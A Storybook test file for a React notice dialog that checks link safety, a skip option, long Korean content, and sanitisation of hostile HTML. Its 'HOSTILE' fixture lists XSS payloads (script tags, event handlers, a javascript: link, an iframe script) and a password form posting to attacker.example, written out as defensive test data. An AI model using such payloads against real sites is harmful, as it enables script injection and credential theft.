import { aNotice } from '@remote-console/api-client/testing';
import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, fn, screen, waitFor, within } from 'storybook/test';
import { storyLanguage, storyTexts } from '../../i18n/testing/storyTexts.ts';
import { exampleNotices } from '../testing/exampleNotices.ts';
import { NoticeDialog } from './NoticeDialog.tsx';

const example = aNotice();

const meta = {
  title: 'Notices/NoticeDialog',
  component: NoticeDialog,
  args: { open: true, notice: example, onClose: fn() },
  render: (args, { globals }) => {
    const [newest = example] = exampleNotices(storyLanguage(globals));
    return <NoticeDialog {...args} notice={args.notice === example ? newest : args.notice} />;
  },
} satisfies Meta<typeof NoticeDialog>;
export default meta;
type Story = StoryObj<typeof meta>;

/** HTML is shown formatted; its links open in a new tab and learn nothing about this page. */
export const Formatted: Story = {
  play: async ({ args, globals, userEvent }) => {
    const common = await storyTexts('common', globals);
    const dialog = await screen.findByRole('dialog');
    // It has its final size from the start: nothing moves under a click.
    const link = within(dialog).getByRole('link');
    await expect(within(dialog).queryByRole('status')).toBeNull();
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(link).toHaveAttribute('target', '_blank');
    await expect(screen.getAllByRole('listitem')).toHaveLength(2);
    await expect(screen.queryByRole('checkbox')).toBeNull();
    await userEvent.click(screen.getByRole('button', { name: common('close') }));
    await expect(args.onClose).toHaveBeenCalledWith({ skip: false });
  },
};

/** The popup after login can be hidden. */
export const Skippable: Story = {
  args: { skippable: true },
  parameters: { spec: ['A-NOTICE-05'] },
  play: async ({ args, globals, userEvent }) => {
    const text = await storyTexts('notices', globals);
    const common = await storyTexts('common', globals);
    await screen.findByRole('link');
    await userEvent.click(await screen.findByRole('checkbox', { name: text('skip') }));
    await userEvent.click(screen.getByRole('button', { name: common('close') }));
    await expect(args.onClose).toHaveBeenCalledWith({ skip: true });
  },
};

const HOSTILE = `
  <h3>제목은 <em>남아요</em></h3>
  <script>window.attacked = 'script'</script>
  <img src="x" alt="그림" onerror="window.attacked = 'handler'">
  <a href="javascript:window.attacked = 'link'">나쁜 링크</a>
  <svg onload="window.attacked = 'svg'"></svg>
  <iframe srcdoc="<script>parent.attacked = 'frame'</script>"></iframe>
  <form action="https://attacker.example/"><input name="password"><button>보내기</button></form>
  <style>body { display: none }</style>
  <p style="position:fixed;inset:0" onclick="window.attacked = 'click'">본문도 남아요</p>
`;

/** Scripts, handlers, frames, forms and styles of a hostile notice are removed; its words and their format stay. */
export const Hostile: Story = {
  args: { notice: aNotice({ noticeTitle: '<b>제목</b>은 글자예요', noticeContent: HOSTILE }) },
  parameters: { spec: ['A-NOTICE-09'] },
  play: async ({ globals, userEvent }) => {
    const common = await storyTexts('common', globals);
    const dialog = await screen.findByRole('dialog', { name: '<b>제목</b>은 글자예요' });
    const body = await within(dialog).findByText('본문도 남아요');
    await expect(within(dialog).getByText('남아요').tagName).toBe('EM');
    await userEvent.click(body);
    await userEvent.click(within(dialog).getByText('나쁜 링크'));
    for (const selector of ['script', 'iframe', 'svg', 'form', 'input', 'style', '[onerror]', '[onclick]', '[style]']) {
      const found = [...dialog.querySelectorAll(selector)].filter(
        (element) => element.closest('[id]') && body.parentElement?.contains(element),
      );
      await expect(found).toHaveLength(0);
    }
    await expect(within(dialog).getByText('나쁜 링크')).not.toHaveAttribute('href');
    await waitFor(() => expect(Reflect.get(window, 'attacked')).toBeUndefined());
    await expect(screen.getByRole('button', { name: common('close') })).toBeVisible();
  },
};

export const LongContent: Story = {
  args: {
    notice: aNotice({
      noticeTitle: '서비스 이용 약관과 개인정보 처리방침이 함께 바뀌어요. 시행일 전에 꼭 확인해 주세요',
      noticeContent: '<p>바뀌는 내용을 알려 드려요. 아래 조항을 하나씩 확인해 주세요.</p>'.repeat(40),
    }),
  },
};
